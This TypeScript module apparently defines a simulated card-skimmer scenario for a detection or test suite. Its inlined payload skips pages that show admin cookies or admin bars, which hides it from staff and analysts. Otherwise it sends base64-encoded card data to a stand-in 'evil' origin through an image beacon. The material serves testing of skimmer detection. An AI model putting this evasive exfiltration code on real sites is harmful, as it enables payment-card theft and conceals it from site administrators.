import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'evade-administrators',
  why: 'Sleeps where a cookie or a bar of the administration is seen (3 of 88 samples).',
  covers: ['trigger: administrators', 'hard: hides from analysts'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    if (/(^|; )(admin|eccube_admin|wp-settings|adminhtml)/.test(document.cookie) || document.querySelector('#wpadminbar,.admin-bar')) return;
    new Image().src = '${site.origins.evil}/b.gif?d=' + encodeURIComponent(btoa(card()));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
